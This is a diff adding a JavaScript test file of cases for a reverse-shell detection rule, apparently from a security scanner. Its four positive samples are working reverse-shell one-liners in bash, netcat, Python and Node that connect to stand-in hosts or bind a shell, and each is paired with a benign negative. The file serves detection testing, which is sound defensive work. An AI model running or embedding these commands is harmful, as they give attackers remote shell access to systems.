@@ -1,0 +1,24 @@
+import { describeRuleCases, js, py, sh } from './rule-cases.helper.js';
+
+describeRuleCases('reverse-shell', [
+  {
+    id: 'SG-RSHELL-001',
+    positive: sh("bash -c 'bash -i >& /dev/tcp/host.example.net/4444 0>&1'"),
+    negative: sh('bash ./scripts/run.sh'),
+  },
+  {
+    id: 'SG-RSHELL-002',
+    positive: sh('nc -l -p 4444 -e /bin/bash'),
+    negative: sh('nc -zv db.example.net 5432'),
+  },
+  {
+    id: 'SG-RSHELL-003',
+    positive: py('import pty\npty.spawn("/bin/sh")'),
+    negative: py('import subprocess\nsubprocess.run(["ls"])'),
+  },
+  {
+    id: 'SG-RSHELL-004',
+    positive: js('const c = net.connect(4444, "h.example.net", () => { spawn("/bin/sh", []) })'),
+    negative: js('const c = net.connect(5432, "db")'),
+  },
+]);
